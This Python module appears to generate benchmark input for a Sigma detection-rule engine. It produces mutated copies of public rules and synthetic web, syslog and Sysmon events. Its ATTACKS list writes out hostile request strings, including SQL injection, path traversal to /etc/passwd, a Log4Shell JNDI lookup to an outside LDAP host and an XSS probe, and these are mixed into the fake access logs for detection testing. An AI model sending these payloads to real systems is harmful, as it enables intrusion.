# SPDX-License-Identifier: Apache-2.0
"""What rules_table.py measures with: rule sets of any size, and events. Real ones where the shared
data is there, made ones otherwise; the same every time."""
import glob
import os
import random
import re
import uuid
import zipfile

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..")
DATA = os.path.join(ROOT, "..", "shared", "data")
WORD = re.compile(r"[0-9A-Za-z]{4,}")
HEX = re.compile(r"[0-9A-Fa-f]{32,}")
ITEM = re.compile(r"^(\s*(?:- )?)([\w.@ -]+(?:\|[\w|]+)?):(?: (.*))?$")
UNTOUCHED = ("re", "cidr", "fieldref", "expand", "exists", "lt", "lte", "gt", "gte")
FILE_BYTES = 1 << 20


# ---- rules ----

def mutate_value(value, rng):
    """One character of the longest word replaced; a digest stays a digest."""
    words = list(WORD.finditer(value))
    if not words or '"' in value or value.strip("' ").isdigit() or rng.random() > 0.8:
        return value
    word = max(words, key=lambda w: len(w.group()))
    at = rng.randrange(word.start(), word.end())
    letters = "0123456789abcdef" if HEX.fullmatch(word.group()) else "abcdefghijklmnopqrstuvwxyz"
    return value[:at] + rng.choice(letters) + value[at + 1:]


def mutate_detection(lines, rng):
    modifiers = []
    for line in lines:
        item = ITEM.match(line)
        if item and item.group(2) == "condition":
            modifiers = ["re"]  # what follows belongs to the condition
        elif item:
            modifiers = item.group(2).split("|")[1:]
        if any(m in UNTOUCHED for m in modifiers) or line.lstrip().startswith("#"):
            yield line
        elif item:
            head, name, value = item.groups()
            yield f"{head}{name}:" + (f" {mutate_value(value, rng)}" if value else "")
        else:
            head = line[:len(line) - len(line.lstrip(" -"))]
            yield head + mutate_value(line[len(head):], rng)


def mutate_rule(text, number):
    """A rule like this one with other literals and another id."""
    rng = random.Random(number)
    out, block, blocks = [], [], 0
    for line in text.split("\n"):
        top = bool(line) and not line[0].isspace()
        if top and block:
            out += mutate_detection(block, rng)
            block = []
        if top:
            blocks = line.startswith("detection:")
            if line.startswith("id:"):
                line = f"id: {uuid.UUID(int=rng.getrandbits(128), version=4)}"
            out.append(line)
        elif blocks:
            block.append(line)
        else:
            out.append(line)
    return "\n".join(out + list(mutate_detection(block, rng)))


def public_rules():
    """Texts of the public rules that can be loaded; without them those we ship."""
    files = sorted(glob.glob(os.path.join(DATA, "sigma", "**", "*.yml"), recursive=True))
    if not files:
        files = sorted(glob.glob(os.path.join(ROOT, "rules", "library", "*.yml")))
    texts = []
    for name in files:
        with open(name, encoding="utf-8") as file:
            texts.append(file.read().rstrip("\n") + "\n")
    return [text for text in texts if "|expand" not in text]


def write_rules(directory, count):
    """`count` rules: an even choice of the public ones, or all and mutated copies of them."""
    texts = public_rules()
    chosen = [texts[i * len(texts) // count] for i in range(min(count, len(texts)))]
    if count >= len(texts):
        chosen = texts + [mutate_rule(texts[i % len(texts)], i) for i in range(count - len(texts))]
    os.makedirs(directory)
    parts, size, number = [], 0, 0
    for i, text in enumerate(chosen):
        parts.append(text)
        size += len(text.encode("utf-8"))
        if size > FILE_BYTES or i + 1 == len(chosen):
            with open(os.path.join(directory, f"{number:04d}.yml"), "w", encoding="utf-8") as file:
                file.write("---\n".join(parts))
            parts, size, number = [], 0, number + 1
    return directory


# ---- events ----

AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
          "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0", "curl/8.5.0"]
PATHS = ["/", "/index.php?id={n}", "/dich-vu-cong/ho-so/{n}?trang={m}", "/static/js/app.{n}.js", "/api/v1/users/{n}",
         "/tin-tuc/{n}.html", "/images/banner-{m}.png", "/login?returnUrl=%2Fho-so%2F{n}",
         "/tra-cuu?q=gi%E1%BA%A5y+ph%C3%A9p&page={m}", "/wp-content/themes/x/style.css?ver={m}.{n}"]
ATTACKS = ["/index.php?id={n}%20UNION%20SELECT%20{m}", "/../../etc/passwd", "/cgi-bin/.%2e/.%2e/bin/sh",
           "/x?a=${{jndi:ldap://198.51.100.{m}/a}}", "/search?q=%3Cscript%3Ealert({n})%3C/script%3E"]


def web_lines(count):
    rng = random.Random(1)
    for i in range(count):
        path = rng.choice(ATTACKS if i % 100 == 0 else PATHS).format(n=rng.randrange(10000), m=rng.randrange(200))
        yield (f'203.0.113.{rng.randrange(250)} - - [21/Nov/2026:07:{i // 60 % 60:02d}:{i % 60:02d} +0700] '
               f'"{rng.choice(["GET", "GET", "GET", "POST"])} {path} HTTP/1.1" '
               f'{rng.choice([200, 200, 200, 304, 404])} {rng.randrange(90000)} '
               f'"https://dichvucong.example.vn/trang-{rng.randrange(50)}" "{rng.choice(AGENTS)}"')


def syslog_lines(count):
    rng = random.Random(2)
    shapes = ["sshd[{p}]: Failed password for invalid user u{n} from 203.0.113.{m} port {p} ssh2",
              "sshd[{p}]: Connection closed by 203.0.113.{m} [preauth]",
              "CRON[{p}]: (root) CMD (test -x /usr/sbin/anacron || run-parts /etc/cron.daily)",
              "systemd[1]: Started session-{n}.scope - Session {n} of user backup."]
    for i in range(count):
        text = rng.choice(shapes).format(p=rng.randrange(30000), n=rng.randrange(1000), m=rng.randrange(250))
        yield f"Nov 21 07:{i // 60 % 60:02d}:{i % 60:02d} web{rng.randrange(20)} {text}"


def windows_lines(count):
    rng = random.Random(3)
    tools = ["svchost.exe", "powershell.exe", "cmd.exe", "chrome.exe", "rundll32.exe"]
    for i in range(count):
        tool, parent = rng.choice(tools), rng.choice(tools)
        path = "C:\\\\Windows\\\\System32\\\\"
        yield ('{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws%d.example.vn",'
               '"SourceName":"Microsoft-Windows-Sysmon","UtcTime":"2026-11-21 07:50:%02d.125","Image":"%s%s",'
               '"CommandLine":"%s%s -k netsvcs -p %d","ParentImage":"%s%s","ParentCommandLine":"%s /c start %d",'
               '"User":"NT AUTHORITY\\\\SYSTEM","IntegrityLevel":"System","CurrentDirectory":"%s",'
               '"Hashes":"MD5=%032x,SHA256=%064x","ProcessGuid":"{b34bc01c-2f95-5f69-5f01-%012x}"}' %
               (rng.randrange(50), i % 60, path, tool, path, tool, i, path, parent, parent, i, path,
                rng.getrandbits(128), rng.getrandbits(256), i))


def real_syslog():
    for name in ("OpenSSH", "Linux", "Apache"):
        path = os.path.join(DATA, "loghub", name + "_2k.log")
        if os.path.exists(path):
            with open(path, encoding="utf-8", errors="surrogateescape") as file:
                yield from file.read().split("\n")


def real_windows():
    for name in sorted(glob.glob(os.path.join(DATA, "windows-events", "*.zip"))):
        with zipfile.ZipFile(name) as archive:
            for member in archive.namelist():
                yield from archive.read(member).decode("utf-8").split("\n")


def write_events(directory):
    """name -> (declared format, file)"""
    sets = {"syslog": ("auto", list(real_syslog()) or list(syslog_lines(6000))),
            "windows": ("auto", list(real_windows()) or list(windows_lines(4000))),
            "web": ("web-access", list(web_lines(20000)))}
    out = {}
    for name, (form, lines) in sets.items():
        path = os.path.join(directory, name)
        with open(path, "w", encoding="utf-8", errors="surrogateescape") as file:
            file.write("\n".join(line for line in lines if line) + "\n")
        out[name] = (form, path)
    return out
